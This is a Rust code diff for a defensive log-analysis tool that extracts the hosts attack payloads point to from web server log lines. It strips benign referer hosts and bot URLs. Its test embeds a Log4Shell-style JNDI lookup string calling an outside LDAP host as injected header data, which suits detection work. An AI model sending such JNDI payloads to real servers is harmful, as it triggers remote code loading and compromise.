@@ -22,8 +22,8 @@ pub fn of(entry: &Entry<'_>) -> Vec<String> {
     let text = match &entry.said {
         Said::Request(request) => [
             request.target.as_ref(),
-            request.referer.as_ref(),
-            request.agent.as_ref(),
+            behind_host(&request.referer),
+            without_home(&request.agent).as_str(),
             request.user.as_ref(),
             request.headers.as_ref(),
             request.body.as_ref(),
@@ -46,6 +46,22 @@ pub fn of(entry: &Entry<'_>) -> Vec<String> {
         }
     }
     aims
+}
+
+/// Every browser names the page that led here: what stands behind its host may still be a trap.
+fn behind_host(referer: &str) -> &str {
+    let rest = referer.strip_prefix("http://").or_else(|| referer.strip_prefix("https://"));
+    rest.map_or(referer, |rest| rest.find(['/', '?', '#']).map_or("", |at| &rest[at..]))
+}
+
+/// Robots say where they are explained: `(compatible; x/1.0; +https://x.example/bot.html)`.
+fn without_home(agent: &str) -> String {
+    let mut parts = agent.split("+http");
+    let first = parts.next().unwrap_or_default().to_owned();
+    parts.fold(first, |kept, part| match part.strip_prefix("s://").or_else(|| part.strip_prefix("://")) {
+        Some(home) => kept + home.find([' ', ')', ';', ',']).map_or("", |at| &home[at..]),
+        None => kept + "+http" + part,
+    })
 }
 
 /// nginx' error log says to whom it passed the request.
@@ -93,6 +109,23 @@ mod tests {
         aims(&format!(
             "198.51.100.7 - - [10/Jun/2026:13:55:36 +0000] \"GET {target} HTTP/1.1\" 404 12 \"-\" \"curl/8.1\""
         ))
+    }
+
+    #[test]
+    fn where_visitors_come_from_and_robots_live_is_no_aim() {
+        let of = |referer: &str, agent: &str| {
+            aims(&format!(
+                "198.51.100.7 - - [10/Jun/2026:13:55:36 +0000] \"GET /a HTTP/1.1\" 404 12 \"{referer}\" \"{agent}\""
+            ))
+        };
+        let robot = "Mozilla/5.0 (compatible; x/1.0; +https://robot.example/bot.html) z";
+        assert_eq!(of("https://search.example/?q=a", robot), Vec::<String>::new());
+        assert_eq!(of("https://search.example", "a+http b"), Vec::<String>::new());
+        let trap = "${jndi:ldap://203.0.113.66/a}";
+        for (referer, agent) in [(trap, "x"), ("https://s.example/?", trap), ("-", trap)] {
+            assert_eq!(of(referer, agent), ["203.0.113.66"], "{referer} {agent}");
+        }
+        assert_eq!(of(&format!("https://s.example/?x={trap}"), robot), ["203.0.113.66"]);
     }
 
     #[test]
